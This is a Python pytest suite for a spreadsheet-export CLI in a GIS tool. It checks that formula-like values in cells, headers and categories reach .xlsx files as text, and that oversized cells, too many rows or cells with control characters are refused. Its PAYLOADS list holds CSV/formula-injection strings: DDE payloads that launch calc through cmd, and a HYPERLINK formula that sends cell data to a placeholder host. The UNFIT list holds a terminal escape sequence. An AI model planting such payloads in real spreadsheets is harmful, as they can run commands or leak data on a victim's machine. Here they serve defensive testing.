"""Hostile input bound for spreadsheets (issue 9, part 2 and the Excel limits): through the real CLI.

Formula-like text in cells, headers and category values must reach .xlsx files as text (join,
convert, stats); a table that does not fit a sheet (rows, cell length, control characters) is a
one-line exit-2 error before anything is written. Every case checks the exit code, the message,
rows in = rows out, the original columns unchanged, and that no file but the output appears.
"""

import csv
import itertools
import zipfile

import openpyxl
import pandas as pd
import pytest

from gzspatial import excel

from ..conftest import invoke_cli

PREFIXES = ["=", "+", "-", "@", "\t=", "\r=", " =", "\t", "\r"]
BODIES = ['HYPERLINK("http://example.invalid/?x="&A1,"open")', "cmd|' /C calc'!A0", "1+1", "SUM(1,2)*3"]
#: Formula-like text generated per class (prefix × body), plus error literals and DDE variants.
PAYLOADS = [p + b for p, b in itertools.product(PREFIXES, BODIES)] + [
    "#N/A",
    "#REF!",
    "=",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]
#: Points in Guangzhou (WGS84) the payload rows sit at, so every route locates them.
SITES = [(113.3245, 23.1066), (113.4, 23.12), (113.2644, 23.1291), (113.5, 23.3)]


def _stored(text: str) -> str:
    """What an .xlsx keeps of a text: XML reads CR and CRLF as LF (documented in gzspatial.excel)."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _frame() -> pd.DataFrame:
    sites = [SITES[i % len(SITES)] for i in range(len(PAYLOADS))]
    return pd.DataFrame(
        {
            "name": PAYLOADS,
            "note": [p[::-1] for p in PAYLOADS],
            "lon": [f"{x}" for x, _ in sites],
            "lat": [f"{y}" for _, y in sites],
        }
    )


def _write_csv(frame: pd.DataFrame, path) -> None:
    """Every field quoted (a bare CR inside a field is a line end to CSV readers)."""
    path.write_bytes(frame.to_csv(index=False, quoting=csv.QUOTE_ALL).encode("utf-8"))


def _xml(path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/"))


def _assert_text_only(path) -> None:
    """No formula and no error value anywhere in the workbook."""
    xml = _xml(path)
    assert "<f>" not in xml and "<f " not in xml and 't="e"' not in xml
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n", "b", "d"), (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"


def _columns(path, sheet=None) -> dict[str, list]:
    book = openpyxl.load_workbook(path)
    rows = list((book[sheet] if sheet else book.worksheets[0]).iter_rows(values_only=True))
    return {name: [r[i] for r in rows[1:]] for i, name in enumerate(rows[0])}


@pytest.fixture
def folder(tmp_path, monkeypatch):
    """A folder for input and output, and a private temp folder to check openpyxl leaves nothing."""
    temp = tmp_path / "tmp"
    temp.mkdir()
    monkeypatch.setenv("TMPDIR", str(temp))
    work = tmp_path / "work"
    work.mkdir()
    yield work
    assert list(temp.iterdir()) == []


def _input(folder, kind: str, frame: pd.DataFrame):
    path = folder / f"in.{kind}"
    if kind == "csv":
        _write_csv(frame, path)
    elif kind == "xlsx":
        excel.write_xlsx(excel.Sheet("名录", frame), path)
    else:
        frame.to_parquet(path)
    return path


@pytest.mark.parametrize("kind", ["csv", "xlsx", "parquet"])
def test_join_writes_formula_like_cells_as_text(folder, kind):
    frame = _frame()
    source = _input(folder, kind, frame)
    out = folder / "out.xlsx"
    result = invoke_cli("join", str(source), "-o", str(out), "--crs", "wgs84", "--quiet")
    assert result.returncode == 0, result.stderr.decode()
    assert sorted(p.name for p in folder.iterdir()) == sorted([source.name, "out.xlsx"])
    _assert_text_only(out)
    columns = _columns(out)
    assert len(columns["name"]) == len(frame)  # rows in = rows out, in order
    assert columns["name"] == [_stored(p) for p in PAYLOADS] and columns["note"] == [_stored(p[::-1]) for p in PAYLOADS]
    assert columns["lon"] == [float(v) for v in frame["lon"]]  # coordinates as numbers
    assert set(columns["gz_status"]) == {"ok"}
    if kind == "xlsx":
        assert openpyxl.load_workbook(out).sheetnames == ["名录"]


def test_formula_like_headers_stay_text(folder):
    headers = PAYLOADS[::3]  # every prefix, each with another body
    frame = pd.DataFrame({h: [f"v{i}"] for i, h in enumerate(headers)}).assign(lon=["113.3245"], lat=["23.1066"])
    source = _input(folder, "csv", frame)
    for command in (["join", str(source), "--crs", "wgs84", "--quiet"], ["convert", str(source), "--from", "wgs84"]):
        out = folder / f"{command[0]}.xlsx"
        result = invoke_cli(*command, "-o", str(out))
        assert result.returncode == 0, result.stderr.decode()
        _assert_text_only(out)
        assert list(_columns(out))[: len(headers)] == [_stored(h) for h in headers]


def test_convert_writes_formula_like_cells_as_text(folder):
    frame = _frame()
    source = _input(folder, "xlsx", frame)
    out = folder / "out.xlsx"
    result = invoke_cli("convert", str(source), "--from", "gcj02", "--to", "wgs84", "-o", str(out))
    assert result.returncode == 0, result.stderr.decode()
    assert f"converted {len(frame)} rows" in result.stderr.decode()
    _assert_text_only(out)
    columns = _columns(out, "名录")
    assert columns["name"] == [_stored(p) for p in PAYLOADS] and len(columns["wgs84_lon"]) == len(frame)
    assert sorted(p.name for p in folder.iterdir()) == ["in.xlsx", "out.xlsx"]


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_stats_category_values_reach_headers_as_text(folder, lang):
    frame = _frame().assign(category=PAYLOADS)
    source = _input(folder, "csv", frame)
    joined = folder / "joined.csv"
    assert invoke_cli("join", str(source), "-o", str(joined), "--crs", "wgs84", "--quiet").returncode == 0
    out = folder / "stats.xlsx"
    result = invoke_cli("stats", str(joined), "--by", "core", "--by", "district", "--category", "category",
                        "--lang", lang, "-o", str(out))  # fmt: skip
    assert result.returncode == 0, result.stderr.decode()
    _assert_text_only(out)
    prefix = "数量：" if lang == "zh" else "count:"
    header = list(_columns(out))
    assert sorted(h[len(prefix) :] for h in header if h.startswith(prefix)) == sorted(_stored(p) for p in PAYLOADS)
    total = _columns(out)["数量" if lang == "zh" else "count"][-1]
    assert total == len(frame)


LONG = 32_768
#: Cells no .xlsx can hold, each with the message naming why.
UNFIT = [
    ("x" * LONG, "has 32,768 characters"),
    ("广" * LONG, "has 32,768 characters"),
    ("=" + "1" * (LONG + 10), "has 32,779 characters"),
    ("a\x00b", "holds the control character U+0000"),
    ("\x00", "holds the control character U+0000"),
    ("\x1b]0;pwned\x07", "holds the control character U+001B"),
    ("tab\x0bvertical", "holds the control character U+000B"),
    ("form\x0cfeed", "holds the control character U+000C"),
    ("\ufffe", "holds the control character U+FFFE"),
]
ROUTES = ["join-csv", "join-parquet", "convert-csv"]


@pytest.mark.parametrize(("cell", "message", "route"), [(*case, ROUTES[i % 3]) for i, case in enumerate(UNFIT)])
def test_cells_that_do_not_fit_are_refused_before_writing(folder, cell, message, route):
    frame = pd.DataFrame({"name": ["ok", "ok", cell], "lon": ["113.3245"] * 3, "lat": ["23.1066"] * 3})
    command, kind = route.split("-")
    source = _input(folder, kind, frame)
    out = folder / "out.xlsx"
    out.write_bytes(b"old output")  # must survive a refused run
    args = (
        ["join", str(source), "--crs", "wgs84", "--quiet"]
        if command == "join"
        else ["convert", str(source), "--from", "wgs84"]
    )
    result = invoke_cli(*args, "-o", str(out))
    stderr = result.stderr.decode()
    assert result.returncode == 2 and len(stderr.strip().splitlines()) == 1, stderr
    assert f"row 3, column 'name', {message}" in stderr and ".csv or .parquet" in stderr
    assert "Traceback" not in stderr and "Exception ignored" not in stderr
    assert out.read_bytes() == b"old output"
    assert sorted(p.name for p in folder.iterdir()) == sorted([source.name, "out.xlsx"])


def test_a_cell_of_exactly_the_limit_goes_through_whole(folder):
    cell = "广" * excel.MAX_CELL_CHARS
    source = _input(folder, "csv", pd.DataFrame({"name": [cell], "lon": ["113.3245"], "lat": ["23.1066"]}))
    out = folder / "out.xlsx"
    assert invoke_cli("join", str(source), "-o", str(out), "--crs", "wgs84", "--quiet").returncode == 0
    assert _columns(out)["name"] == [cell]


@pytest.mark.large
@pytest.mark.parametrize("command", ["join", "convert"])
def test_too_many_rows_for_a_sheet_is_refused(folder, command):
    """1,048,576 data rows + the header do not fit a sheet: refused, nothing written (join: before joining)."""
    source = folder / "big.csv"
    source.write_text("name,lon,lat\n" + "a,113.3245,23.1066\n" * (excel.MAX_ROWS), encoding="utf-8")
    out = folder / "big.xlsx"
    args = (
        ["join", str(source), "--crs", "wgs84", "--quiet"]
        if command == "join"
        else ["convert", str(source), "--from", "wgs84"]
    )
    result = invoke_cli(*args, "-o", str(out))
    stderr = result.stderr.decode()
    assert result.returncode == 2 and len(stderr.strip().splitlines()) == 1, stderr
    assert "1,048,576 rows do not fit in an Excel sheet" in stderr and "write .csv or .parquet instead" in stderr
    assert sorted(p.name for p in folder.iterdir()) == ["big.csv"]


@pytest.mark.parametrize("values", [["=1+1", "+SUM(A1)"], {"f": '=HYPERLINK("http://x")'}], ids=["list", "object"])
def test_list_valued_gis_properties_reach_xlsx_as_json_text(tmp_path, values):
    """A GeoJSON property holding a list or an object of formula-like text: one text cell of JSON."""
    import json

    source = tmp_path / "in.geojson"
    feature = {"type": "Feature", "geometry": {"type": "Point", "coordinates": [113.3245, 23.1066]},
               "properties": {"v": values}}  # fmt: skip
    source.write_text(json.dumps({"type": "FeatureCollection", "features": [feature]}), encoding="utf-8")
    result = invoke_cli("join", str(source), "-o", str(tmp_path / "out.xlsx"), "--quiet")
    assert result.returncode == 0, result.stderr.decode()
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").active
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("v") + 1)
    assert cell.data_type == "s" and json.loads(cell.value) == values
